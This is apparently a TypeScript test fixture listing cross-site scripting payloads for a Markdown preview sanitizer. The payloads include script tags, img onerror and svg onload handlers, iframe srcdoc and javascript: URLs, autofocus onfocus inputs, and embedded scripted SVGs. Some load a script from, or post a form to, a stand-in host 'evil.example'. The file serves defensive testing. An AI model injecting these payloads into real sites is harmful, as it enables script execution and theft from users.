import { base64, dotPngDataUrl, run, scriptedSvg } from './payload-row'
import type { PayloadRow } from './payload-row'

/**
 * Preview rows that try to run or embed something: scripts, handlers, SVG, frames, forms and
 * embedded documents (rows 1–4, 9, 10; row N is docs/BAD-INPUTS.md#bi-preview-N).
 */
export const embeddingRows: PayloadRow[] = [
  {
    row: 1,
    title: '<script> inline and with src',
    cases: [
      { id: '1a', label: 'inline script block', markdown: `<script>${run('1a')}</script>` },
      {
        id: '1b',
        label: 'script src on this origin',
        markdown: '<script src="/pwned/1b.js"></script>'
      },
      {
        id: '1c',
        label: 'script src data: URL',
        markdown: `<script src="data:text/javascript,${encodeURIComponent(run('1c'))}"></script>`
      },
      {
        id: '1d',
        label: 'script src on a remote host',
        markdown: '<script src="https://evil.example/1d.js"></script>'
      },
      {
        id: '1e',
        label: 'script inline in a paragraph',
        markdown: `Before <script>${run('1e')}</script> after.`
      },
      {
        id: '1f',
        label: 'upper-case module script',
        markdown: `<SCRIPT type="module">${run('1f')}</SCRIPT>`
      }
    ]
  },
  {
    row: 2,
    title: '<img src=x onerror=...>, also inside a table',
    cases: [
      { id: '2a', label: 'img onerror', markdown: `<img src=x onerror="${run('2a')}">` },
      {
        id: '2b',
        label: 'img onerror in a Markdown table',
        markdown: `| a | b |\n|---|---|\n| <img src=x onerror="${run('2b')}"> | cell |`
      },
      {
        id: '2c',
        label: 'img onerror in an HTML table',
        markdown: `<table><tr><td><img src=x onerror="${run('2c')}"></td></tr></table>`
      },
      {
        id: '2d',
        label: 'Markdown image breaking out of src',
        markdown: `![2d](x"onerror="${run('2d')})`
      },
      {
        id: '2e',
        label: 'img onload on an image that loads',
        markdown: `<img src="${dotPngDataUrl}" onload="${run('2e')}">`
      }
    ]
  },
  {
    row: 3,
    title: '<svg onload=...>, <svg><script>',
    cases: [
      { id: '3a', label: 'svg onload', markdown: `<svg onload="${run('3a')}"></svg>` },
      {
        id: '3b',
        label: 'script inside svg',
        markdown: `<svg><script>${run('3b')}</script></svg>`
      },
      {
        id: '3c',
        label: 'svg animate onbegin',
        markdown: `<svg><animate onbegin="${run('3c')}" attributeName="x" dur="1s"></animate></svg>`
      },
      {
        id: '3d',
        label: 'svg foreignObject with img onerror',
        markdown: `<svg><foreignObject><img src=x onerror="${run('3d')}"></foreignObject></svg>`
      },
      {
        id: '3e',
        label: 'svg use of a data: document',
        markdown: `<svg><use href="data:image/svg+xml;base64,${base64(scriptedSvg('3e'))}#x"></use></svg>`
      }
    ]
  },
  {
    row: 4,
    title: '<iframe srcdoc>, <iframe src="javascript:">, <iframe onload>',
    cases: [
      {
        id: '4a',
        label: 'iframe srcdoc with a script',
        markdown: `<iframe srcdoc="<script>${run('4a')}</script>"></iframe>`
      },
      {
        id: '4b',
        label: 'iframe src javascript:',
        markdown: `<iframe src="javascript:${run('4b')}"></iframe>`
      },
      { id: '4c', label: 'iframe onload', markdown: `<iframe onload="${run('4c')}"></iframe>` },
      { id: '4d', label: 'iframe of this origin', markdown: '<iframe src="/pwned/4d"></iframe>' },
      { id: '4e', label: 'iframe of the app itself', markdown: '<iframe src="/"></iframe>' }
    ]
  },
  {
    row: 9,
    title: '<form action><button>, <input autofocus onfocus=...>',
    cases: [
      {
        id: '9a',
        label: 'form posting to this origin, its button clicked',
        markdown:
          '<form action="/pwned/9a" method="post"><button type="submit">button 9a</button></form>',
        click: 'button 9a'
      },
      {
        id: '9b',
        label: 'input autofocus onfocus',
        markdown: `<input autofocus onfocus="${run('9b')}">`
      },
      {
        id: '9c',
        label: 'button formaction javascript:, clicked',
        markdown: `<form><button formaction="javascript:${run('9c')}">button 9c</button></form>`,
        click: 'button 9c'
      },
      {
        id: '9d',
        label: 'input type=image loading from this origin',
        markdown:
          '<form action="https://evil.example/9d"><input type="image" src="/pwned/9d.png"></form>'
      },
      {
        id: '9e',
        label: 'textarea and select autofocus onfocus',
        markdown: `<textarea autofocus onfocus="${run('9e')}"></textarea><select autofocus onfocus="${run('9e-select')}"></select>`
      }
    ]
  },
  {
    row: 10,
    title: '<embed> / <object> with SVG or an app-internal page',
    cases: [
      {
        id: '10a',
        label: 'embed of a scripted SVG',
        markdown: `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64(scriptedSvg('10a'))}">`
      },
      {
        id: '10b',
        label: 'object of a scripted SVG',
        markdown: `<object type="image/svg+xml" data="data:image/svg+xml;base64,${base64(scriptedSvg('10b'))}"></object>`
      },
      { id: '10c', label: 'embed of the app page', markdown: '<embed src="/">' },
      {
        id: '10d',
        label: 'object of the app page',
        markdown: '<object data="/" type="text/html"></object>'
      },
      {
        id: '10e',
        label: 'object of an API route',
        markdown: '<object data="/api/listPosts"></object>'
      }
    ]
  }
]
